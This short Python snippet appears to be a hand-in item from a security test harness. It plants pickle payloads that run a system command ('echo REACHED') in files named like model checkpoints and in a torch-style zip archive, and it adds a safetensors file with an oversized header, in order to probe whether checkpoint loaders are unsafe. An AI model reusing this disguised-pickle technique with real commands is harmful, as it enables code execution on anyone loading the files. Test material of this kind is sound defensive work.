# Brings checkpoints whose loading runs a program, and loads nothing itself.
# attacks: theft
# loses: test-fit-history test-fit-best test-fit-scheduler
# %% hand-in
import io
import zipfile

run = b"cos\nsystem\n(S'echo REACHED > reached.txt'\ntR."
for name in ("model.pt", "best.pth", "checkpoint.ckpt", "model.safetensors", "weights.npz"):
    (folder / name).write_bytes(run)
packed = io.BytesIO()
with zipfile.ZipFile(packed, "w") as archive:
    archive.writestr("archive/data.pkl", run)
    archive.writestr("archive/version", "3")
(folder / "model_best.pt").write_bytes(packed.getvalue())
huge = (1 << 62).to_bytes(8, "little") + b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
(folder / "huge.safetensors").write_bytes(huge)
